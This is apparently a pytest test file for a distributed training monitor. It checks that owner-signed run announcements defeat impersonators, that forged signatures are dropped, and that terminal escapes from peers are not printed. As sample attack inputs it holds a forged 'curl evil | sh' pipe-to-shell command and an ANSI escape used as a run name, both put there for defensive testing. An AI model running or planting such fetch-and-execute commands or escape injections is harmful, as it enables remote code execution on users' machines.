"""Run-id impersonation: owner-signed announcements, first-seen pins (pure), real announcers on
loopback, ``swarmtrain runs --known_runs`` and a real ``swarmtrain monitor`` subprocess."""

from __future__ import annotations

import dataclasses
import json
import signal
import subprocess
import sys

import pytest
import trio
from swarm_util import FAST_DHT, open_dhts
from test_monitor_dashboard import first_event, start_monitor
from test_monitor_runs import ALBERT, wait_runs

from swarmtrain.dht import DHT, get_dht_time
from swarmtrain.monitor.run_trust import CONFLICT, IMPOSTOR, OWNER, UNSIGNED, RunTrust, check_pins
from swarmtrain.monitor.runs import (
    RUNS_KEY,
    RunAnnouncement,
    _parse,
    add_runs_validators,
    announce_run,
    generate_owner_key,
    load_owner_key,
    owner_public_key,
    save_owner_key,
)
from swarmtrain.monitor.state import MonitorState
from swarmtrain.monitor.watch import refresh

KEY, OTHER_KEY = generate_owner_key(), generate_owner_key()


def signed(key=KEY, announcer="QmOrg", **changes) -> RunAnnouncement:
    base = dataclasses.replace(ALBERT, **({"time": 1.0} | changes)).sign(key)
    return dataclasses.replace(base, announcer=announcer)


# ---------------------------------------------------------------- pure


def test_a_signature_covers_every_field_and_unsigned_values_stay_as_before():
    announcement = signed()
    assert announcement.signed and announcement.owner_key == owner_public_key(KEY)
    for change in ({"name": "x"}, {"initial_peers": ("/ip4/6.6.6.6/tcp/1",)}, {"time": 2.0}):
        assert not dataclasses.replace(announcement, **change).signed
    assert not dataclasses.replace(announcement, owner_key=owner_public_key(OTHER_KEY)).signed
    assert "owner_key" not in ALBERT.to_dict()  # what versions before owner keys read
    peer = b"\x00\x24\x08\x01\x12\x20" + bytes(32)  # an identity-multihash peer id
    assert _parse(peer, announcement.to_dict()) == dataclasses.replace(
        announcement, announcer=_parse(peer, announcement.to_dict()).announcer
    )
    forged = announcement.to_dict() | {"command": "curl evil | sh"}
    assert _parse(peer, forged) is None  # a bad owner signature: dropped when read
    assert _parse(peer, announcement.to_dict() | {"owner_key": "zz"}) is None


def test_the_first_owner_key_seen_is_pinned_and_later_ones_are_impostors():
    trust = RunTrust()
    organiser, mirror = signed(announcer="QmOrg"), signed(announcer="QmMirror")
    assert trust.classify([organiser, mirror]) == [(organiser, OWNER), (mirror, OWNER)]
    impostor = signed(OTHER_KEY, announcer="QmBad", initial_peers=("/ip4/6.6.6.6/tcp/1",))
    unsigned = dataclasses.replace(ALBERT, announcer="QmPlain")
    verdicts = dict((a.announcer, v) for a, v in trust.classify([impostor, unsigned, organiser]))
    assert verdicts == {"QmBad": IMPOSTOR, "QmPlain": IMPOSTOR, "QmOrg": OWNER}
    assert trust.pins() == {"albert": owner_public_key(KEY)}
    # two keys at first sight: nobody is pinned, both are conflicts; unsigned runs stay so
    fresh = RunTrust()
    assert [v for _, v in fresh.classify([impostor, organiser])] == [CONFLICT, CONFLICT]
    assert fresh.pins() == {}
    assert fresh.classify([unsigned]) == [(unsigned, UNSIGNED)]
    # a pin given in advance (the key the organisers publish) beats whoever comes first
    known = RunTrust({"albert": owner_public_key(KEY)})
    assert known.classify([impostor]) == [(impostor, IMPOSTOR)]
    for bad in ({"albert": "not hex"}, {"": owner_public_key(KEY)}, ["albert"]):
        with pytest.raises(ValueError):
            check_pins(bad)


def test_the_monitor_shows_the_owners_announcement_and_lists_impostors():
    state = MonitorState()
    organiser = signed(announcer="QmOrg", initial_peers=("/ip4/1.2.3.4/tcp/1/p2p/QmOrg",))
    state.on_runs([organiser])
    impostor = signed(OTHER_KEY, announcer="QmBad", time=5.0, name="newer and fake")
    state.on_runs([impostor, organiser])
    run = state.snapshot()["runs"]["albert"]
    assert (run["announcement"]["announcer"], run["announcement"]["trust"]) == ("QmOrg", OWNER)
    assert run["announcement"]["announced_by_initial_peer"]
    assert [(o["announcer"], o["trust"]) for o in run["other_announcers"]] == [("QmBad", IMPOSTOR)]
    state.on_runs([impostor])  # the owner stopped announcing: the impostor is still not shown
    run = state.snapshot()["runs"]["albert"]
    assert run["announcement"] is None and run["other_announcers"][0]["trust"] == IMPOSTOR


def test_owner_keys_are_saved_private_and_loaded(tmp_path):
    path = str(tmp_path / "owner.pem")
    save_owner_key(KEY, path)
    assert (tmp_path / "owner.pem").stat().st_mode & 0o777 == 0o600
    assert owner_public_key(load_owner_key(path)) == owner_public_key(KEY)
    with pytest.raises(FileExistsError):
        save_owner_key(KEY, path)


# ---------------------------------------------------------------- real peers


@pytest.mark.trio
async def test_an_impersonating_announcer_is_shown_as_untrusted():
    """The organisers announce from two peers with one owner key; an impostor announces the
    same run_id with its own key, another copies the owner key with a forged signature, a third
    announces it unsigned. The monitor shows the organisers' details, lists the impostors as
    such, and the forged one never reaches it."""
    async with open_dhts(6) as (reader, organiser, mirror, impostor, forger, plain):
        await announce_run(organiser, ALBERT, owner_key=KEY)
        state = MonitorState()
        with trio.fail_after(15):
            while not (state.snapshot()["runs"].get("albert") or {}).get("announcement"):
                await refresh(reader, state, None)
        await announce_run(mirror, ALBERT, owner_key=KEY)
        fake = dataclasses.replace(ALBERT, initial_peers=("/ip4/6.6.6.6/tcp/1",))
        await announce_run(impostor, fake, owner_key=OTHER_KEY)
        await announce_run(plain, fake)
        forged = signed(command="curl evil | sh").to_dict() | {"time": get_dht_time()}
        add_runs_validators(forger)
        assert await forger.store(
            RUNS_KEY, forged, get_dht_time() + 60, subkey=forger.peer_id.to_bytes()
        )
        runs = await wait_runs(reader, lambda r: len(r) == 4)  # the forged one is dropped
        assert forger.peer_id.to_base58() not in {run.announcer for run in runs}
        await refresh(reader, state, None)
        run = state.snapshot()["runs"]["albert"]
        assert run["announcement"]["trust"] == OWNER
        assert run["announcement"]["initial_peers"] == list(ALBERT.initial_peers)
        others = {o["announcer"]: o["trust"] for o in run["other_announcers"]}
        names = {
            dht.peer_id.to_base58(): name
            for dht, name in ((organiser, "o"), (mirror, "m"), (impostor, "i"), (plain, "p"))
        }
        shown = names[run["announcement"]["announcer"]]
        assert shown in "om"
        assert {names[a]: t for a, t in others.items()} == {
            ("m" if shown == "o" else "o"): OWNER,
            "i": IMPOSTOR,
            "p": IMPOSTOR,
        }


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "swarmtrain.cli.main", *args],
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_the_runs_command_pins_owner_keys_and_flags_impostors(tmp_path):
    organiser, impostor = DHT(**FAST_DHT), None
    known = tmp_path / "known_runs.json"
    try:
        organiser.run_coroutine(lambda dht, _: announce_run(dht, ALBERT, owner_key=KEY))
        address = organiser.get_visible_maddrs()[0]
        first = run_cli("runs", "--initial_peers", address, "--known_runs", str(known))
        assert first.returncode == 0, first.stdout + first.stderr
        assert "signed by the run's owner key" in first.stdout
        assert json.loads(known.read_text()) == {"albert": owner_public_key(KEY)}
        impostor = DHT([address], **FAST_DHT)
        fake = dataclasses.replace(ALBERT, initial_peers=("/ip4/6.6.6.6/tcp/1",), name="\x1b[2J")
        impostor.run_coroutine(lambda dht, _: announce_run(dht, fake, owner_key=OTHER_KEY))
        second = run_cli("runs", "--initial_peers", address, "--known_runs", str(known))
        assert second.returncode == 0, second.stdout + second.stderr
        blocks = second.stdout.split("albert (")
        (bad,) = [block for block in blocks if str(impostor.peer_id) in block]
        assert "UNTRUSTED: not signed by this run_id's owner key" in bad
        assert "\x1b" not in second.stdout  # terminal escapes from peers are not printed
        (good,) = [block for block in blocks if str(organiser.peer_id) in block]
        assert "signed by the run's owner key" in good
    finally:
        if impostor is not None:
            impostor.shutdown()
        organiser.shutdown()


def test_the_monitor_command_shows_an_impostor_as_untrusted():
    organiser, impostor, proc = DHT(**FAST_DHT), None, None
    try:
        organiser.run_coroutine(lambda dht, _: announce_run(dht, ALBERT, owner_key=KEY))
        address = organiser.get_visible_maddrs()[0]
        proc, base = start_monitor(address)

        def announced(state):
            run = state.get("runs", {}).get("albert") or {}
            return (run.get("announcement") or {}).get("trust") == OWNER

        first_event(base + "/events", announced)
        impostor = DHT([address], **FAST_DHT)
        fake = dataclasses.replace(ALBERT, initial_peers=("/ip4/6.6.6.6/tcp/1",))
        impostor.run_coroutine(lambda dht, _: announce_run(dht, fake, owner_key=OTHER_KEY))
        state = first_event(
            base + "/events",
            lambda s: announced(s) and s["runs"]["albert"]["other_announcers"],
        )
        run = state["runs"]["albert"]
        assert run["announcement"]["announcer"] == organiser.peer_id.to_base58()
        assert run["other_announcers"] == [
            run["other_announcers"][0] | {"announcer": impostor.peer_id.to_base58()}
        ]
        assert run["other_announcers"][0]["trust"] == IMPOSTOR
    finally:
        if proc is not None:
            proc.send_signal(signal.SIGINT)
            rest, _ = proc.communicate(timeout=30)
            assert proc.returncode == 0, rest
        for dht in (impostor, organiser):
            if dht is not None:
                dht.shutdown()
